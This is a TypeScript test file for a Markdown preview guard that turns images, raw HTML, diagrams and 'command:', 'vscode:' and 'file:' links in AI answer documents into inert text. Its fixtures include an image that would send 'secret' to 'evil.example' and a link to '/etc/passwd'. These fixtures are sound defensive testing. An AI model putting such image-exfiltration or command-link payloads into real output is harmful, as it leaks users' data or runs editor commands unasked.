import assert from 'node:assert/strict';
import { guardAnswers, type MarkdownParser, type MarkdownToken } from '../../../src/editor/answerMarkdown.ts';

const answer = { currentDocument: { toString: () => 'switchyard-answer:/Answer.md' } };
const own = { currentDocument: { toString: () => 'file:///README.md' } };

function token(type: string, parts: Partial<MarkdownToken> = {}): MarkdownToken {
	return { type, tag: '', attrs: null, nesting: 0, content: '', info: '', children: null, ...parts };
}

/** What reaches the renderer of the preview. */
function rendered(tokens: readonly MarkdownToken[], environment: unknown = answer): readonly MarkdownToken[] {
	let seen: readonly MarkdownToken[] = [];
	const parser = guardAnswers<MarkdownParser>(
		{
			renderer: {
				render(given) {
					seen = given;
					return '';
				},
			},
		},
		(document) => document.startsWith('switchyard-answer:'),
	);
	parser.renderer.render(tokens, {}, environment);
	return seen;
}

const image = token('image', { content: 'x', attrs: [['src', 'https://evil.example/?q=secret']] });
const linkTo = (href: string) =>
	token('inline', {
		children: [
			token('link_open', { attrs: [['href', href]], nesting: 1 }),
			token('text', { content: 'words' }),
			token('link_close', { nesting: -1 }),
		],
	});

describe('an answer in the Markdown preview', () => {
	it('has no image, wherever it stands, but its text', () => {
		const [line] = rendered([token('inline', { children: [token('text', { content: 'a' }), image] })]);
		assert.deepEqual(
			line?.children?.map(({ type, content }) => [type, content]),
			[
				['text', 'a'],
				['code_inline', '![x](https://evil.example/?q=secret)'],
			],
		);
	});

	it('has no HTML but its text', () => {
		const html = '<img src="https://evil.example">';
		const tokens = [token('html_block', { content: html }), token('html_inline', { content: html })];
		assert.deepEqual(
			rendered(tokens).map(({ type, content }) => [type, content]),
			[
				['code_block', html],
				['code_inline', html],
			],
		);
	});

	for (const href of [
		'command:workbench.action.x',
		'vscode://a.b/c',
		'file:///etc/passwd',
		'src/cart.ts',
		'COMMAND:x',
	]) {
		it(`has no link to ${href}, and shows where it would have led`, () => {
			assert.deepEqual(
				rendered([linkTo(href)])[0]?.children?.map(({ type, content }) => [type, content]),
				[
					['text', ''],
					['text', 'words'],
					['code_inline', href],
				],
			);
		});
	}

	for (const href of ['https://a.example/', 'http://a.example/', 'mailto:a@b.example', '#below']) {
		it(`keeps its link to ${href}`, () => {
			assert.deepEqual(rendered([linkTo(href)])[0], linkTo(href));
		});
	}

	it('has no diagram but its text, and keeps the language of its code', () => {
		const fences = [
			token('fence', { info: 'mermaid' }),
			token('fence', { info: ' PlantUML x' }),
			token('fence', { info: 'ts' }),
		];
		assert.deepEqual(
			rendered(fences).map(({ info }) => info),
			['', '', 'ts'],
		);
	});

	it('has nothing that other extensions have added to Markdown but its text', () => {
		assert.deepEqual(
			rendered([token('uml_block', { content: 'a' }), token('video', { content: 'b' })]).map(({ type }) => type),
			['code_block', 'code_inline'],
		);
	});

	it('does not change the tokens, which the preview keeps', () => {
		rendered([image]);
		assert.equal(image.type, 'image');
	});
});

describe('a document of the user’s own in the Markdown preview', () => {
	for (const environment of [own, {}, null, { currentDocument: undefined }]) {
		it(`is left alone (${JSON.stringify(environment)})`, () => {
			const tokens = [image, linkTo('command:x')];
			assert.equal(rendered(tokens, environment), tokens);
		});
	}
});
